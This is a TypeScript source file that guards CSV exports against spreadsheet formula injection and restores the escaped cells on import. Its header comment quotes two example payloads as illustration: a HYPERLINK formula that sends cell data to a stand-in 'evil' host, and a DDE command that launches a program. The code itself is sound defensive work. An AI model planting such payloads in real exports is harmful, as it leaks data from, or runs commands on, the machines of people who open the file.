/**
 * CSV formula injection (OWASP "CSV Injection"): a spreadsheet that opens a CSV runs a cell
 * beginning with = + - @ (or a tab or carriage return before one) as a formula, so a record
 * value such as `=HYPERLINK("http://evil/?"&A1,"open")` or `+cmd|' /C calc'!A0` would act on
 * the machine of whoever opens the export. Such text cells are written with a leading single
 * quote (and quoted, which the CSV writer does for every cell changed here), which makes the
 * spreadsheet show them as text.
 *
 * What is left alone:
 * - numbers: number fields are written as numbers, never through here, so -5 stays -5; a text
 *   cell that is nothing but a plain number ("-5", "+3.2") cannot run anything either and is
 *   left as it is, as OWASP warns that blind prefixing breaks values like -1;
 * - the full-width forms of the four signs are treated like the ASCII ones, since some
 *   spreadsheets (Apple Numbers) normalise them.
 *
 * Round trip: the import of a CSV removes one leading quote from a cell that, without it, would
 * start a formula (`restoreCsvCell`). For that to be exact, a text that already begins with
 * quotes followed by a formula sign gets one more quote on export, so `'=x` is written
 * `''=x` and reads back as `'=x`. Any other leading quote is ordinary text and kept.
 */

/** quotes, then a formula sign (after optional spaces), or a tab or carriage return */
const FORMULA_START = /^'*(?:\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|[\t\r])/;
const PLAIN_NUMBER = /^[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?$/;

/** The text of a CSV cell as it may be written: with a leading quote if it could run as a formula. */
export function neutraliseCsvCell(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

/** A cell read from a CSV: one quote added by neutraliseCsvCell is taken off again. */
export function restoreCsvCell(text: string): string {
  return text.startsWith("'") && FORMULA_START.test(text) ? text.slice(1) : text;
}
